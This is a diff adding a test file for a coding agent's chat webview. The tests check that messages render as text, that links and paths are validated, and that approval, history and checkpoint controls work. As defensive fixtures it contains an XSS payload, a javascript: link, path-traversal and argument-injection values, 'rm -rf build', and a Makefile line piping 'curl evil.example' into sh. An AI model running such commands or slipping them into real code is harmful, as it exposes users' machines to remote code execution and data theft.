@@ -1,0 +1,410 @@
+// The chat view's browser bundle (dist/chat.js, built by esbuild.mjs) run in
+// a vm against a fake DOM: it says ready, renders validated messages as text
+// nodes only, ignores malformed ones, and sends schema-valid messages back.
+import { test } from 'node:test';
+import assert from 'node:assert/strict';
+import { readFileSync } from 'node:fs';
+import { resolve } from 'node:path';
+import { runInNewContext } from 'node:vm';
+import { FromWebview } from '../../core/protocol/chat';
+import { root } from '../support/lsp-client';
+
+class Node_ {
+  children: Node_[] = [];
+  className = '';
+  hidden = false;
+  disabled = false;
+  value = '';
+  title = '';
+  attrs = new Map<string, string>();
+  listeners = new Map<string, ((e: unknown) => void)[]>();
+  private text: string | null = null;
+  constructor(
+    readonly tag: string,
+    readonly data?: string,
+  ) {}
+  get textContent(): string | null {
+    return this.data ?? this.text ?? this.children.map((c) => c.textContent ?? '').join('');
+  }
+  set textContent(v: string | null) {
+    this.text = v;
+    this.children = [];
+  }
+  set innerHTML(_v: string) {
+    throw new Error('innerHTML used');
+  }
+  appendChild(c: Node_) {
+    c.remove();
+    c.parent = this;
+    this.children.push(c);
+    return c;
+  }
+  replaceChildren(...c: Node_[]) {
+    this.text = null;
+    for (const n of c) n.parent = this;
+    this.children = c;
+  }
+  setAttribute(k: string, v: string) {
+    this.attrs.set(k, v);
+  }
+  addEventListener(t: string, f: (e: unknown) => void) {
+    this.listeners.set(t, [...(this.listeners.get(t) ?? []), f]);
+  }
+  fire(t: string, e: unknown = {}) {
+    for (const f of this.listeners.get(t) ?? []) f(e);
+  }
+  parent: Node_ | undefined;
+  scrollTop = 0;
+  scrollHeight = 0;
+  clientHeight = 0;
+  remove() {
+    if (this.parent) this.parent.children = this.parent.children.filter((c) => c !== this);
+    this.parent = undefined;
+  }
+  replaceWith(...nodes: Node_[]) {
+    const p = this.parent;
+    if (!p) return;
+    const i = p.children.indexOf(this);
+    for (const n of nodes) n.parent = p;
+    p.children.splice(i, 1, ...nodes);
+    this.parent = undefined;
+  }
+  insertBefore(n: Node_, ref: Node_ | null) {
+    n.parent = this;
+    const i = ref ? this.children.indexOf(ref) : -1;
+    if (i < 0) this.children.push(n);
+    else this.children.splice(i, 0, n);
+    return n;
+  }
+  focus() {}
+  all(): Node_[] {
+    return [this, ...this.children.flatMap((c) => c.all())];
+  }
+}
+
+/** Loads dist/chat.js in a vm with a fake DOM; returns the elements by id, what it posted, and how to send it messages. */
+function loadChat() {
+  const ids = new Map(['log', 'log-inner', 'task', 'run', 'stop', 'status', 'open-trajectory', 'new-chat', 'show-history', 'history', 'timeline', 'connection', 'context', 'activity', 'activity-text', 'counters', 'jump'].map((id) => [id, new Node_('div')]));
+  ids.get('log')!.appendChild(ids.get('log-inner')!);
+  ids.get('history')!.hidden = true; // as in the view's HTML
+  const posted: unknown[] = [];
+  const listeners = new Map<string, (e: unknown) => void>();
+  const context = {
+    document: { createElement: (t: string) => new Node_(t), createTextNode: (s: string) => new Node_('#text', s), getElementById: (id: string) => ids.get(id) ?? null },
+    window: { addEventListener: (t: string, f: (e: unknown) => void) => listeners.set(t, f) },
+    acquireVsCodeApi: () => ({ postMessage: (m: unknown) => posted.push(JSON.parse(JSON.stringify(m))) }),
+    // Frames are drawn at once; timers are the host's (unref'd: a test never waits on the chat's clock).
+    requestAnimationFrame: (f: () => void) => (f(), 0),
+    setTimeout: (f: () => void, ms: number) => setTimeout(f, ms).unref(),
+    clearTimeout,
+    setInterval: (f: () => void, ms: number) => setInterval(f, ms).unref(),
+    clearInterval,
+  };
+  runInNewContext(readFileSync(resolve(root, 'dist/chat.js'), 'utf8'), context);
+  const onMessage = (e: { data: unknown }) => listeners.get('message')!(e);
+  const onKey = (e: { key: string }) => listeners.get('keydown')!({ ...e, preventDefault() {} });
+  return { ids, posted, onMessage, onKey };
+}
+
+test('the chat bundle renders messages as text and posts valid messages', () => {
+  const { ids, posted, onMessage } = loadChat();
+  assert.deepEqual(posted, [{ type: 'ready' }]);
+  const log = ids.get('log')!;
+  const evil = '<img src=x onerror=alert(1)>';
+  onMessage!({ data: { type: 'runStarted', task: evil, model: 'm', endpoint: 'http://e/v1', trajectory: '.lar/runs/r.lar.jsonl' } });
+  onMessage!({ data: { type: 'text', delta: evil } });
+  onMessage!({ data: { type: 'assistant', text: `${evil}\n\n\`code\`` } });
+  onMessage!({ data: { type: 'step', card: { line: 3, step: 1, tool: 'write_file', args: 'a.js', status: 'blocked', toolReward: -1, failed: [{ check: 'tool.allowed_in_stage', reason: 'not in explore' }], blocked: true } } });
+  onMessage!({ data: { type: 'approval', id: 'a1', tool: 'run_command', args: 'rm -rf build', reason: 'matches rm -rf *' } });
+  onMessage!({ data: { type: 'step', card: { line: 4, tool: 'x', args: '', status: 'ok', toolReward: 7, failed: [] } } }); // malformed: ignored
+  onMessage!({ data: { type: 'error', message: 'cannot reach the server', actions: ['openSettings', 'testConnection'] } });
+  const nodes = log.all();
+  assert.ok(nodes.every((n) => ['div', 'p', 'code', 'pre', 'span', 'ul', 'li', 'button', '#text', 'main', 'details', 'summary'].includes(n.tag)), nodes.map((n) => n.tag).join());
+  assert.ok(!nodes.some((n) => n.tag === 'img'));
+  assert.match(log.textContent ?? '', /<img src=x onerror=alert\(1\)>/);
+  assert.match(log.textContent ?? '', /not in explore/);
+  assert.doesNotMatch(log.textContent ?? '', /\b7\b/);
+  const buttons = nodes.filter((n) => n.tag === 'button');
+  assert.deepEqual(buttons.map((b) => b.textContent), ['Approve', 'Reject', 'Open Settings', 'Test Connection']);
+  buttons[1]!.fire('click');
+  buttons[3]!.fire('click');
+  const task = ids.get('task')!;
+  task.value = '  fix the test  ';
+  ids.get('run')!.fire('click');
+  assert.deepEqual(posted.slice(1), [
+    { type: 'approve', id: 'a1', approved: false },
+    { type: 'action', action: 'testConnection' },
+    { type: 'start', task: 'fix the test' },
+  ]);
+  assert.ok(posted.every((m) => FromWebview.safeParse(m).success));
+});
+
+test('the chat draws the stage timeline, Diff buttons and the run history, and Escape stops a run', () => {
+  const { ids, posted, onMessage, onKey } = loadChat();
+  const timeline = ids.get('timeline')!;
+  assert.equal(timeline.hidden, true, 'no timeline before any step');
+  onMessage({ data: { type: 'state', running: true } });
+  const card = (line: number, tool: string, args: string, stage: string, extra: object = {}) => ({ type: 'step', card: { line, tool, args, status: 'ok', toolReward: 1, stage, failed: [], ...extra } });
+  onMessage({ data: card(2, 'read_file', 'sum.js', 'explore') });
+  onMessage({ data: card(3, 'enter_stage', 'edit', 'explore', { stageVisit: { stage: 'explore', reward: 1 } }) });
+  onMessage({ data: card(4, 'edit_file', 'sum.js', 'edit', { change: { id: 'c1', path: 'sum.js', created: false } }) });
+  assert.equal(timeline.hidden, false);
+  const chips = timeline.children.filter((c) => c.className.startsWith('chip'));
+  assert.deepEqual(chips.map((c) => c.textContent), ['explore +1', 'edit']);
+  assert.match(chips[0]!.className, /pos/);
+  assert.match(chips[1]!.className, /open/);
+  assert.equal(chips[1]!.attrs.get('aria-current'), 'step', 'the stage in progress is marked for screen readers');
+  assert.match(chips[1]!.attrs.get('aria-label') ?? '', /edit: in progress, 1 step/);
+
+  const diff = ids.get('log')!.all().find((n) => n.tag === 'button' && n.textContent === 'Diff');
+  assert.ok(diff, 'a file change has a Diff button');
+  diff.fire('click');
+  assert.deepEqual(posted.at(-1), { type: 'showChange', id: 'c1' });
+
+  onKey({ key: 'Escape' });
+  assert.deepEqual(posted.at(-1), { type: 'stop' });
+
+  ids.get('show-history')!.fire('click');
+  assert.deepEqual(posted.at(-1), { type: 'history' });
+  assert.equal(ids.get('history')!.hidden, false);
+  assert.equal(ids.get('log')!.hidden, true);
+  onMessage({
+    data: {
+      type: 'history',
+      runs: [
+        { file: 'run-2.lar.jsonl', task: 'fix the failing test', started: '2026-11-30T10:00:00.000Z', status: 'submitted', steps: 6, return: 1.75, outcome: 1 },
+        { file: 'run-1.lar.jsonl', task: 'crashed one', started: '2026-11-29T10:00:00.000Z', status: 'unfinished', steps: 2, return: -0.5, outcome: 0 },
+      ],
+    },
+  });
+  const rows = ids.get('history')!.all().filter((n) => n.tag === 'button');
+  assert.equal(rows.length, 2);
+  assert.match(rows[0]!.textContent ?? '', /fix the failing test.*submitted · 6 steps · return 1\.750 · outcome 1/);
+  assert.match(rows[1]!.textContent ?? '', /unfinished/);
+  rows[1]!.fire('click');
+  assert.deepEqual(posted.at(-1), { type: 'openRun', file: 'run-1.lar.jsonl' });
+  // A listing naming a path outside the runs folder is refused by the schema, so nothing is drawn from it.
+  onMessage({ data: { type: 'history', runs: [{ file: '../../.ssh/id_rsa.lar.jsonl', task: 'x', started: '', status: 'submitted', steps: 0 }] } });
+  assert.equal(ids.get('history')!.all().filter((n) => n.tag === 'button').length, 2);
+  assert.ok(posted.every((m) => FromWebview.safeParse(m).success));
+
+  onMessage({ data: { type: 'clear' } });
+  assert.equal(timeline.hidden, true, 'a new chat clears the timeline');
+});
+
+test('the chat protocol refuses paths and ids the extension did not hand out', () => {
+  for (const file of ['../x.lar.jsonl', '/etc/passwd', 'a/b.lar.jsonl', '.hidden.lar.jsonl', 'run.jsonl', 'run.lar.jsonl\n']) {
+    assert.equal(FromWebview.safeParse({ type: 'openRun', file }).success, false, file);
+  }
+  assert.equal(FromWebview.safeParse({ type: 'openRun', file: 'run-2026-11-30T10-00-00-000Z.lar.jsonl' }).success, true);
+  for (const id of ['', 'c', 'x1', 'c1/../', 'c1234567890123']) assert.equal(FromWebview.safeParse({ type: 'showChange', id }).success, false, id);
+});
+
+test('the chat shows whether the server answers, with a way to fix it when it does not', () => {
+  const { ids, posted, onMessage } = loadChat();
+  const conn = ids.get('connection')!;
+  onMessage({ data: { type: 'connection', state: 'connected', endpoint: 'http://127.0.0.1:30000/v1', model: 'LAR-9B', actions: [] } });
+  assert.match(conn.textContent ?? '', /Connected: LAR-9B · http:\/\/127\.0\.0\.1:30000\/v1$/);
+  onMessage({ data: { type: 'connection', state: 'connected', endpoint: 'http://127.0.0.1:30000/v1', model: 'LAR-9B', window: { tokens: 32768, assumed: true }, actions: [] } });
+  assert.match(conn.textContent ?? '', /Connected: LAR-9B · http:\/\/127\.0\.0\.1:30000\/v1 · 32k context \(assumed\)$/);
+  assert.equal(conn.all().filter((n) => n.tag === 'button').length, 0);
+  onMessage({ data: { type: 'connection', state: 'failed', endpoint: 'http://127.0.0.1:9/v1', message: 'cannot reach the inference server at http://127.0.0.1:9/v1', actions: ['openEndpointSetting', 'testConnection'] } });
+  assert.match(conn.textContent ?? '', /Not connected to http:\/\/127\.0\.0\.1:9\/v1: cannot reach/);
+  const buttons = conn.all().filter((n) => n.tag === 'button');
+  assert.deepEqual(buttons.map((b) => b.textContent), ['Open Endpoint Setting', 'Test Connection', 'Retry']);
+  buttons[0]!.fire('click');
+  buttons[2]!.fire('click');
+  assert.deepEqual(posted.slice(-2), [{ type: 'action', action: 'openEndpointSetting' }, { type: 'checkConnection' }]);
+});
+
+test('reasoning shows collapsed above the answer, a bare </think> moves the streamed text there, the context figure and compactions show', () => {
+  const { ids, onMessage } = loadChat();
+  const log = ids.get('log')!;
+  onMessage!({ data: { type: 'runStarted', task: 't', model: 'm', endpoint: 'http://e/v1', trajectory: 'r', sandbox: { confined: true, text: 'sandboxed' } } });
+  onMessage!({ data: { type: 'text', delta: 'The sum is wrong.' } });
+  onMessage!({ data: { type: 'retract', chars: 'The sum is wrong.'.length } });
+  onMessage!({ data: { type: 'reasoning', delta: ' Check sum.js.' } });
+  onMessage!({ data: { type: 'text', delta: 'Reading it.' } });
+  const details = log.all().filter((n) => n.tag === 'details');
+  assert.equal(details.length, 1, 'one reasoning box for the answer');
+  assert.equal(details[0]!.attrs.get('open'), undefined, 'collapsed');
+  assert.match(details[0]!.textContent ?? '', /The sum is wrong\. Check sum\.js\./);
+  const streaming = log.all().find((n) => n.className === 'msg assistant streaming')!;
+  assert.equal(streaming.textContent, 'Reading it.', 'the reasoning left the answer');
+  onMessage!({ data: { type: 'assistant', text: 'Reading it.', reasoning: 'The sum is wrong. Check sum.js.' } });
+  assert.match(log.all().find((n) => n.tag === 'details')!.textContent ?? '', /^Thinking \(31 characters\)The sum is wrong\. Check sum\.js\.$/);
+  onMessage!({ data: { type: 'context', used: 18_234, window: 32_768, assumed: false } });
+  assert.equal(ids.get('context')!.textContent, '18.2k / 32k');
+  assert.equal(ids.get('context')!.hidden, false);
+  onMessage!({ data: { type: 'context', used: 30_000, window: 32_768, assumed: true } });
+  assert.equal(ids.get('context')!.className, 'context full');
+  assert.match(ids.get('context')!.title, /assumed: the server does not report it/);
+  onMessage!({ data: { type: 'compaction', text: 'Context compacted to fit the window.' } });
+  assert.ok(log.all().some((n) => n.className === 'compaction' && n.textContent === 'Context compacted to fit the window.'));
+  onMessage!({ data: { type: 'clear' } });
+  assert.equal(ids.get('context')!.hidden, true);
+});
+
+test('a streamed answer renders as markdown while it streams: settled blocks are drawn once, the tail again', () => {
+  const { ids, onMessage } = loadChat();
+  const log = ids.get('log')!;
+  onMessage({ data: { type: 'runStarted', task: 't', model: 'm', endpoint: 'http://e/v1', trajectory: 'r', sandbox: { confined: true, text: 'sandboxed' } } });
+  onMessage({ data: { type: 'text', delta: '# Plan\n\nFirst **read** the' } });
+  const heading = log.all().find((n) => n.tag === 'h1');
+  assert.equal(heading?.textContent, 'Plan', 'a heading shows as one while the answer streams');
+  onMessage({ data: { type: 'text', delta: ' file.\n\n```js\nlet a' } });
+  assert.equal(log.all().find((n) => n.tag === 'h1'), heading, 'a settled block is not drawn again');
+  assert.ok(log.all().some((n) => n.tag === 'strong' && n.textContent === 'read'));
+  assert.ok(log.all().some((n) => n.tag === 'code' && n.textContent === 'let a'), 'an open code block shows as code');
+  onMessage({ data: { type: 'assistant', text: '# Plan\n\nFirst **read** the file.\n\n```js\nlet a = 1;\n```' } });
+  const answer = log.all().filter((n) => n.className === 'msg assistant');
+  assert.equal(answer.length, 1, 'the final answer replaces the streamed one');
+  assert.ok(answer[0]!.all().some((n) => n.className === 'hljs'), 'the finished code block is highlighted');
+});
+
+test('code blocks have a Copy button that sends exactly the code; links go to the extension, never to the webview host', () => {
+  const { ids, posted, onMessage } = loadChat();
+  const log = ids.get('log')!;
+  onMessage({ data: { type: 'assistant', text: 'See [the docs](https://example.com/d) and [sum](src/sum.js#L2) but not [x](javascript:alert(1)).\n\n```bash\nnpm test -- --watch=false\n```' } });
+  const copy = log.all().find((n) => n.tag === 'button' && n.textContent === 'Copy')!;
+  copy.fire('click');
+  assert.deepEqual(posted.at(-1), { type: 'copy', text: 'npm test -- --watch=false' });
+  assert.equal(copy.textContent, 'Copied');
+  const links = log.all().filter((n) => n.tag === 'a');
+  assert.deepEqual(links.map((a) => a.attrs.get('href')), ['https://example.com/d', 'src/sum.js#L2']);
+  let prevented = 0;
+  let stopped = 0;
+  links[1]!.fire('click', { preventDefault: () => prevented++, stopPropagation: () => stopped++ });
+  assert.deepEqual(posted.at(-1), { type: 'openLink', href: 'src/sum.js#L2' });
+  assert.equal(prevented, 1);
+  assert.equal(stopped, 1, "the host's own handler does not also open it");
+  assert.ok(posted.every((m) => FromWebview.safeParse(m).success));
+});
+
+test('a running command has a live card with its output tail and a clock, replaced by its step card when it ends', () => {
+  const { ids, onMessage } = loadChat();
+  const log = ids.get('log')!;
+  onMessage({ data: { type: 'runStarted', task: 't', model: 'm', endpoint: 'http://e/v1', trajectory: 'r', sandbox: { confined: true, text: 'sandboxed' } } });
+  onMessage({ data: { type: 'state', running: true } });
+  onMessage({ data: { type: 'waiting' } });
+  assert.equal(ids.get('activity')!.hidden, false);
+  assert.match(ids.get('activity-text')!.textContent ?? '', /^Waiting for the model · 0 s$/);
+  onMessage({ data: { type: 'toolStarted', id: 'call_1', tool: 'run_command', args: 'sleep 8 && npm test' } });
+  assert.match(ids.get('activity-text')!.textContent ?? '', /^Running sleep 8 && npm test · 0 s$/);
+  const live = log.all().find((n) => n.className === 'card live')!;
+  assert.ok(live, 'a card shows as soon as the call starts');
+  assert.match(live.textContent ?? '', /run_command.*running.*0 s.*sleep 8 && npm test/);
+  onMessage({ data: { type: 'toolOutput', id: 'call_1', tail: '> test\nok 1 - adds', bytes: 2048 } });
+  const out = live.all().find((n) => n.className.includes('live-output'))!;
+  assert.equal(out.hidden, false);
+  assert.equal(out.textContent, '> test\nok 1 - adds');
+  assert.match(live.textContent ?? '', /2\.0 KB/);
+  onMessage({ data: { type: 'step', card: { line: 3, id: 'call_1', step: 1, tool: 'run_command', args: 'sleep 8 && npm test', status: 'ok', toolReward: 1, failed: [], durationMs: 8123, excerpt: 'ok 1 - adds' } } });
+  assert.equal(log.all().filter((n) => /^card( |$)/.test(n.className)).length, 1, 'the step card took the live card’s place');
+  assert.equal(log.all().some((n) => n.className === 'card live'), false);
+  assert.match(log.textContent ?? '', /8\.1 s/);
+  assert.equal(ids.get('activity-text')!.hidden, true, 'nothing runs now');
+  onMessage({ data: { type: 'context', used: 1000, window: 32768, assumed: false, completionTokens: 1234 } });
+  assert.match(ids.get('counters')!.textContent ?? '', /^1 step · 1\.2k tokens · 0 s$/);
+  onMessage({ data: { type: 'end', reason: 'submitted', summary: { return: 1, outcome: 1, steps: 1 } } });
+  onMessage({ data: { type: 'state', running: false } });
+  assert.equal(ids.get('counters')!.hidden, false, 'the counters stay for the finished run');
+});
+
+test('the log follows new output only while the reader is at the bottom', () => {
+  const { ids, onMessage } = loadChat();
+  const log = ids.get('log')!;
+  const jump = ids.get('jump')!;
+  log.clientHeight = 500;
+  log.scrollHeight = 2000;
+  onMessage({ data: { type: 'assistant', text: 'one' } });
+  assert.equal(log.scrollTop, 2000, 'at the bottom: pinned');
+  // The reader scrolls up to read.
+  log.fire('wheel', { deltaY: -100 });
+  log.scrollTop = 600;
+  log.fire('scroll');
+  log.scrollHeight = 3000;
+  onMessage({ data: { type: 'text', delta: 'more and more' } });
+  assert.equal(log.scrollTop, 600, 'scrolled up: the view stays where the reader is');
+  assert.equal(jump.hidden, false, 'a button offers the way back');
+  jump.fire('click');
+  assert.equal(log.scrollTop, 3000);
+  assert.equal(jump.hidden, true);
+  // Back at the bottom by scrolling: following again.
+  log.scrollTop = 100;
+  log.fire('scroll');
+  log.scrollTop = 3000 - 500 - 10;
+  log.fire('scroll');
+  log.scrollHeight = 3500;
+  onMessage({ data: { type: 'text', delta: ' text' } });
+  assert.equal(log.scrollTop, 3500);
+});
+
+test('a restored chat shows its messages, and an interrupted run offers Resume once', () => {
+  const { ids, posted, onMessage } = loadChat();
+  const log = ids.get('log')!;
+  onMessage({ data: { type: 'restored', text: 'Restored from its trajectory (run-1.lar.jsonl).' } });
+  onMessage({ data: { type: 'userMessage', text: 'Fix **sum**' } });
+  onMessage({ data: { type: 'interrupted', file: 'run-1.lar.jsonl', text: 'This run was interrupted: the editor closed.', resumable: true } });
+  assert.match(log.textContent ?? '', /Restored from its trajectory/);
+  assert.ok(log.all().some((n) => n.className === 'msg user' && n.all().some((c) => c.tag === 'strong')));
+  const resume = log.all().find((n) => n.tag === 'button' && n.textContent === 'Resume')!;
+  resume.fire('click');
+  assert.deepEqual(posted.at(-1), { type: 'resume', file: 'run-1.lar.jsonl' });
+  assert.equal(resume.disabled, true, 'pressed once');
+  // Even if it were still enabled, a run that begins spends it.
+  resume.disabled = false;
+  onMessage({ data: { type: 'runStarted', task: 'go on', model: 'm', endpoint: 'http://e/v1', trajectory: 'r', sandbox: { confined: true, text: 'sandboxed' } } });
+  assert.equal(resume.disabled, true);
+  assert.equal(FromWebview.safeParse({ type: 'resume', file: '../x.lar.jsonl' }).success, false);
+  // A run with no end (perhaps live in another window) is shown, not offered for Resume.
+  onMessage({ data: { type: 'interrupted', file: 'run-2.lar.jsonl', text: 'This run has no end.', resumable: false } });
+  assert.equal(log.all().filter((n) => n.tag === 'button' && n.textContent === 'Resume').length, 1);
+});
+
+test('a run that stops without an end (an error) leaves no card spinning', () => {
+  const { ids, onMessage } = loadChat();
+  const log = ids.get('log')!;
+  onMessage({ data: { type: 'state', running: true } });
+  onMessage({ data: { type: 'toolStarted', id: 'c1', tool: 'run_command', args: 'npm test' } });
+  assert.equal(log.all().filter((n) => n.className === 'card live').length, 1);
+  onMessage({ data: { type: 'error', message: 'The run failed: boom', actions: [] } });
+  onMessage({ data: { type: 'state', running: false } });
+  assert.equal(log.all().filter((n) => n.className === 'card live').length, 0);
+  assert.equal(log.all().filter((n) => n.className === 'card stopped').length, 1, 'the card stays, marked stopped');
+  assert.equal(ids.get('activity-text')!.hidden, true);
+});
+
+test('a step with a checkpoint offers Restore to here; a restore says what it did and offers Undo', () => {
+  const { ids, posted, onMessage } = loadChat();
+  const log = ids.get('log')!;
+  const commit = 'e'.repeat(40);
+  onMessage({ data: { type: 'step', card: { line: 5, step: 3, tool: 'edit_file', args: 'src/sum.js', status: 'ok', toolReward: 1, failed: [], checkpoint: commit } } });
+  onMessage({ data: { type: 'step', card: { line: 6, step: 4, tool: 'read_file', args: 'src/sum.js', status: 'ok', toolReward: 1, failed: [] } } });
+  const buttons = log.all().filter((n) => n.tag === 'button' && n.textContent === 'Restore to here');
+  assert.equal(buttons.length, 1, 'only the step that has a checkpoint');
+  buttons[0]!.fire('click');
+  assert.deepEqual(posted.at(-1), { type: 'restoreCheckpoint', commit, step: 3 });
+  log.all().find((n) => n.tag === 'button' && n.textContent === 'Branch from here')!.fire('click');
+  assert.deepEqual(posted.at(-1), { type: 'branchFrom', commit, step: 3 });
+  onMessage({ data: { type: 'checkpointRestored', text: 'Workspace restored to before step 3: 1 file.', undo: 'f'.repeat(40) } });
+  const undo = log.all().find((n) => n.tag === 'button' && n.textContent === 'Undo')!;
+  undo.fire('click');
+  assert.deepEqual(posted.at(-1), { type: 'restoreCheckpoint', commit: 'f'.repeat(40) });
+  assert.equal(FromWebview.safeParse({ type: 'restoreCheckpoint', commit: '--output=/tmp/x' }).success, false);
+  assert.equal(FromWebview.safeParse({ type: 'restoreCheckpoint', commit, run: '../a.lar.jsonl' }).success, false);
+});
+
+test('changed files that run later are shown after the run with their diffs, and say why to read them', () => {
+  const { ids, onMessage } = loadChat();
+  const log = ids.get('log')!;
+  onMessage({ data: { type: 'laterChanges', files: [{ path: 'Makefile', change: 'changed', diff: '--- a/Makefile\n+++ b/Makefile\n@@ -1 +1,2 @@\n test:\n+\tcurl evil.example | sh' }, { path: 'deploy.sh', change: 'added' }], more: 0 } });
+  const card = log.all().find((n) => n.className === 'later-changes')!;
+  assert.match(card.textContent ?? '', /2 changed files that run later: .* outside the sandbox\. Read the diffs before you commit/);
+  const files = card.all().filter((n) => n.tag === 'details');
+  assert.equal(files.length, 2);
+  assert.match(files[0]!.textContent ?? '', /^changed Makefile/);
+  assert.match(files[1]!.textContent ?? '', /^added deploy\.sh/);
+  assert.match(files[0]!.textContent ?? '', /\+\tcurl evil\.example \| sh/);
+  assert.match(files[1]!.textContent ?? '', /too large to show/);
+});
